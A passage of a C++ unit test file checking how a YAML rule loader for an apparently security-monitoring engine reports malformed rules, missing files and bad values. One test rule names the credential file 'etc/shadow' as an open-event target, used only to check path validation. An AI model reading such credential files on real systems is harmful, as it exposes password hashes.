                            f.at(3, 9, "expected a string", "b.yaml")});
}

TEST_CASE("first_rules errors: unknown top-level key and rule field", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rulez:\n  - rule: r1\n") == Names{f.at(1, 1, "unknown key 'rulez' (expected lists, rules)")});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1") + "    priority: WARNING\n") ==
          Names{f.at(10, 5, "unknown rule field 'priority'")});
}

TEST_CASE("first_rules errors: a file that does not exist", "[first_rules][errors]") {
    RuleFiles f;
    const std::string missing = f.dir / "missing.yaml";
    CHECK(f.load({missing}) == nullptr);
    CHECK(f.errors == Names{missing + ": cannot read the file"});
    // a good file before it does not make the load succeed
    CHECK(f.load({kDefaultRules, missing}) == nullptr);
    CHECK(f.errors == Names{missing + ": cannot read the file"});
}

TEST_CASE("first_rules errors: wrong value types", "[first_rules][errors]") {
    RuleFiles f;
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      succeeded: yes\n")) ==
          Names{f.at(8, 18, "expected true or false")});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      host_file: [etc/shadow]\n", "open")) ==
          Names{f.at(8, 18, "host path 'etc/shadow' is not absolute")});
    CHECK(f.errors_of("rules:\n" + rule_yaml("r1") + "    enabled: maybe\n") ==
          Names{f.at(10, 14, "expected true or false")});
    CHECK(f.errors_of("rules: {a: 1}\n") == Names{f.at(1, 8, "'rules' must be a list")});
    CHECK(f.errors_of("- just\n- a list\n") == Names{f.at(1, 1, "expected a map with 'lists' and 'rules'")});
}

TEST_CASE("first_rules errors: every error is collected", "[first_rules][errors]") {
    RuleFiles f;
    const Names errors = f.errors_of("rules:\n" + rule_yaml("r1", "      succeeded: true\n", "fork") +
                                     rule_yaml("r2", "      succeeded: true\n", "exec", "urgent"));
    CHECK(errors == Names{f.at(4, 12, "unknown event 'fork' (expected exec, connect or open)"),
                          f.at(14, 15, "unknown severity 'urgent' (expected info, low, medium, high or critical)")});

    SECTION("errors of several files, in file order") {
        const std::string a = f.write("a.yaml", "rulez: []\n");
        const std::string b = f.write("b.yaml", "rules:\n" + rule_yaml("r1", "      nope: true\n"));
        CHECK(f.load({a, b}) == nullptr);
        REQUIRE(f.errors.size() == 2);
        CHECK(f.errors[0] == f.at(1, 1, "unknown key 'rulez' (expected lists, rules)", "a.yaml"));
        CHECK_THAT(f.errors[1], Catch::StartsWith(f.at(8, 7, "unknown predicate 'nope'", "b.yaml")));
    }
}

TEST_CASE("first_rules errors: earlier errors in the vector are kept, and not counted", "[first_rules][errors]") {
    std::vector<std::string> errors = {"from before"};
    auto r = FirstRules::load({kDefaultRules}, errors);
    CHECK(r != nullptr);
    CHECK(errors == Names{"from before"});
}
